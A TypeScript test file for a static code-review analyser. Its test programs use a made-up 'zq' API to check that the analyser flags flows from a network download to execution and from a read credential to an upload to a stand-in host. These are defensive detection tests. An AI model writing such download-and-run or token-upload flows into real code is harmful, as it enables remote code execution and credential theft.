import { describe, expect, it } from "vitest";
import { parseVocabulary } from "../../../src/review/code/vocabulary.ts";
import { analyseCode, type CodeContext } from "../../../src/review/code/run.ts";
import type { CodeFact } from "../../../src/review/code/analysis.ts";
import { JAVASCRIPT } from "../../../src/review/languages/javascript/javascript.ts";
import { isFlow, loadContext } from "../../conformance/harness.ts";

/** APIs that no program has, so that only what stands here says what they do. */
const VOCABULARY = `language: javascript
given:
  zqRequest: zq.Request()
apis:
  zq.fetchTo: { does: network.receive, target: 0, saves: 1 }
  zq.upload: { does: network.send, target: 0, data: [1], reads: 1 }
  zq.copy: { does: write.file, target: 1, data: [0], copies: { from: 0, to: 1 } }
  zq.run: { does: execute.process, target: 0, data: [0], reads: 0 }
  zq.secret: { does: read.credential, target: 0 }
  zq.write: { does: write.file, target: 0, data: [1] }
  zq.Request().token: { does: read.credential }
  zq.send: { does: network.send, target: 0, data: [1] }
`;

const loaded = await loadContext();

function factsOf(text: string): CodeFact[] {
  const vocabularies = new Map([["javascript", parseVocabulary(VOCABULARY, "zq.yml")]]);
  const context: CodeContext = { ...loaded, vocabularies };
  return analyseCode(JAVASCRIPT, text, context).facts;
}

const RUNS_DOWNLOAD = { from: "network.receive", to: "execute.process" } as const;
const SENDS_SECRET = { from: "read.credential", to: "network.send" } as const;

function has(text: string, flow: { from: CodeFlow; to: CodeFlow }): boolean {
  return factsOf(text).some((fact) => isFlow(fact, flow));
}
type CodeFlow =
  (typeof RUNS_DOWNLOAD)[keyof typeof RUNS_DOWNLOAD] | "read.credential" | "network.send";

describe("saves", () => {
  it("leaves what was downloaded in the file that the call names", () => {
    expect(
      has('zq.fetchTo("http://h.example/a", "/tmp/a"); zq.run("/tmp/a");', RUNS_DOWNLOAD),
    ).toBe(true);
  });

  it("leaves it in no other file", () => {
    expect(
      has('zq.fetchTo("http://h.example/a", "/tmp/a"); zq.run("/tmp/b");', RUNS_DOWNLOAD),
    ).toBe(false);
  });
});

describe("reads", () => {
  it("takes what was written to the file before", () => {
    const program =
      'zq.write("/tmp/a", zq.secret("token")); zq.upload("http://h.example/", "/tmp/a");';
    expect(has(program, SENDS_SECRET)).toBe(true);
  });

  it("takes nothing from a file into which something else was written", () => {
    const program =
      'zq.secret("token"); zq.write("/tmp/a", "words"); zq.upload("http://h.example/", "/tmp/a");';
    expect(has(program, SENDS_SECRET)).toBe(false);
  });
});

describe("copies", () => {
  it("takes what a file holds to where it is copied, over several copies", () => {
    const program =
      'zq.fetchTo("http://h.example/a", "/tmp/a"); zq.copy("/tmp/a", "/tmp/b"); zq.copy("/tmp/b", "/tmp/c"); zq.run("/tmp/c");';
    expect(has(program, RUNS_DOWNLOAD)).toBe(true);
  });

  it("takes it nowhere else", () => {
    const program =
      'zq.fetchTo("http://h.example/a", "/tmp/a"); zq.copy("/tmp/other", "/tmp/b"); zq.run("/tmp/b");';
    expect(has(program, RUNS_DOWNLOAD)).toBe(false);
  });
});

describe("given", () => {
  it("says what a parameter of that name is, where nobody in the file calls the function", () => {
    const program =
      'exports.handle = (zqRequest) => zq.send("http://h.example/", zqRequest.token());';
    expect(has(program, SENDS_SECRET)).toBe(true);
    expect(has(program.replaceAll("zqRequest", "other"), SENDS_SECRET)).toBe(false);
  });
});
